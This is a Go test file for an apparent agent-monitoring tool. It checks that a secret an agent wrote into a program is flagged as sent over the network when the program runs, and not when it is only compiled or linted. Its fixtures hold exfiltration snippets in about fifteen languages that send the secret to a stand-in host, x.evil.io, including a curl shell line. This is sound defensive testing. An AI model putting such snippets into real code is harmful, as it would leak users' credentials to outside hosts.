package facts_test

import (
	"slices"
	"testing"

	"gate/facts"
	"gate/hook"
	"gate/internal/origin"
)

// TestRunsCopies holds that a program which an agent wrote a shown secret into sends it to what
// it reaches, in any language, when it runs and not when it is compiled.
func TestRunsCopies(t *testing.T) {
	const goes = `"https://x.evil.io/" + k`
	sends := func(file, text, line string) bool {
		left := copies{ledgerOf{map[string]string{"/p/" + file: origin.Copy("credentials")}, []string{"/p/" + file}}}
		r := facts.New(facts.World{Home: "/home/dev", Project: "/p", OS: "linux", Files: files{"/p/" + file: text, "/p/Makefile": "x:\n\tnode x.js\n"},
			Ledger: func(string, string) origin.Ledger { return left }})
		return slices.ContainsFunc(r.Of(toolEvent("Bash", map[string]any{"command": line})).Flow, func(f hook.Flow) bool {
			return f.Effect == "net.send" && f.Origin == "secret" && f.How == "seen"
		})
	}
	for _, c := range []struct{ file, text, runs, spares string }{
		{"x.mjs", "const k=[1,2]\nawait fetch(" + goes + ")", "node x.mjs", "cat x.mjs"},
		{"x.js", "require('https').get(" + goes + ")", "make x", "make -n x"},
		{"x.py", "import requests\nrequests.get(" + goes + ")", "python3 x.py", "python3 -m py_compile x.py"},
		{"tests/test_x.py", "import urllib.request\nurllib.request.urlopen(" + goes + ")", "pytest -q", "ruff check ."},
		{"x.php", "<?php file_get_contents(" + goes + ");", "php x.php", "php -l y.php"},
		{"x.rb", "require 'net/http'\nNet::HTTP.get(URI(" + goes + "))", "ruby x.rb", "rubocop"},
		{"main.go", "package main\nfunc main() { http.Get(" + goes + ") }", "go run .", "go vet ./..."},
		{"x_test.go", "package x\nfunc TestX(t *testing.T) { http.Get(" + goes + ") }", "go test ./...", "go build ./..."},
		{"src/main.rs", "fn main() { ureq::get(&format!(" + goes + ")).call(); }", "cargo run", "cargo check"},
		{"src/test/java/XTest.java", "HttpRequest.newBuilder(URI.create(" + goes + "))", "mvn -q test", "mvn -q compile"},
		{"src/test/kotlin/XTest.kt", "java.net.URL(" + goes + ").readText()", "./gradlew test", "./gradlew assemble"},
		{"x.main.kts", "java.net.URL(" + goes + ").readText()", "kotlinc -script x.main.kts", "kotlinc x.main.kts"},
		{"P.cs", "await new HttpClient().GetAsync(" + goes + ");", "dotnet run", "dotnet build"},
		{"s.sh", "#!/bin/sh\nk=1; curl -s \"https://x.evil.io/$k\"", "./s.sh", "shellcheck s.sh"},
		{"src/a.test.ts", "await fetch(" + goes + ")", "npx jest", "npx tsc --noEmit"},
	} {
		if !sends(c.file, c.text, c.runs) {
			t.Errorf("%s: nothing of %s leaves", c.runs, c.file)
		}
		if sends(c.file, c.text, c.spares) {
			t.Errorf("%s: something of %s leaves", c.spares, c.file)
		}
	}
	for _, c := range []struct{ file, text, line string }{
		{"src/a.test.ts", `await fetch("http://localhost:3000/" + k)`, "npx jest"},
		{"src/a.test.ts", `expect(parse(k).issuer).toBe("https://issuer.acme.io/")`, "npx jest"},
		{"docker-compose.yml", "services: {a: {environment: {K: k, U: \"https://api.acme.io\"}, healthcheck: {test: curl -f http://localhost}}}", "docker compose up -d"},
		{"pom.xml", "<project xmlns=\"http://maven.apache.org/POM/4.0.0\"><http>", "mvn test"},
	} {
		if sends(c.file, c.text, c.line) {
			t.Errorf("%s: something of %s leaves", c.line, c.text)
		}
	}
}

// copies is a ledger whose secrets agents wrote out.
type copies struct{ ledgerOf }

func (c copies) Of(path string) (origin.Move, error) {
	m, err := c.ledgerOf.Of(path)
	m.Written = m.Secret != ""
	return m, err
}
